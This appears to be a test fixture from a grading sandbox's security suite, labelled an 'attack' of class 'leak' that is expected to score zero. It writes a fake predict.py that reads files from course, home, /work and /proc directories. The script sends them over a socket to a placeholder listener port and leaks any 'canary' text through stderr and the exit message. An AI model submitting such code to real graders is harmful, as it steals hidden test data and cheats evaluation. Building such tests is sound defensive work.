# attack: hands in a predict.py that reads the course and tells a listener, in place of predictions
# class: leak
# base: stub
# expect: 0 points
# weights: submitted
# --- build:
(folder / "predict.py").write_text("""
import glob, os, socket, sys
text = ""
for top in ("@COURSE@", "@HOME@", "/work", "/proc/1", "/proc/self"):
    for folder, _, files in os.walk(top):
        for name in files[:50]:
            try:
                text += open(os.path.join(folder, name), errors="replace").read(10000)
            except OSError:
                pass
try:
    s = socket.create_connection(("127.0.0.1", int("@TCP@")), 1)
    s.send(("@NAME@" + text).encode())
except OSError:
    pass
print(text[text.find("canary"):][:2000], file=sys.stderr)
raise SystemExit(text[text.find("canary"):][:2000])
""")
(folder / "model_weights.pt").write_bytes(b"not weights")
